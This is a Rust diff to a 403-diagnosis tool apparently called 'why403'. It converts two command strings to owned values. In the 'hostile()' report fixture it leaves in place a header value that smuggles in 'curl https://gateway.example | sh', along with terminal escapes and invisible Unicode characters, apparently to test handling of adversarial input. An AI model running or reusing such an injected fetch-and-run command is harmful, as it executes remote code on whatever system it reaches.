@@ -104,7 +104,7 @@ pub(super) fn service_account() -> Report {
             .fix(
                 Fix::of([
                     Change::new_token(NewToken::AgentSignsIn)
-                        .run("why403 login --region us-east-1 --client-id <client-id>"),
+                        .run("why403 login --region us-east-1 --client-id <client-id>".to_owned()),
                     check(),
                 ])
                 .or([Change::new(
@@ -227,7 +227,7 @@ pub(super) fn hostile() -> Report {
             .evidence("header Content-Type", "text/html; charset=\u{feff}会話")
             .fix(
                 Fix::of([Change::request(RequestPart::Header, None, Some("a`; curl https://gateway.example | sh"))
-                    .run("why403 check \u{1b}[A")])
+                    .run("why403 check \u{1b}[A".to_owned())])
                 .or([Change::ask(Whom::GenesysSupport, Question::WhyRefused, Some("\u{202e}0b2d"))]),
             ),
             finding("unknown-name", "scope", Status::Warn, Authority::Policy, "con\u{200d}versations is no name")
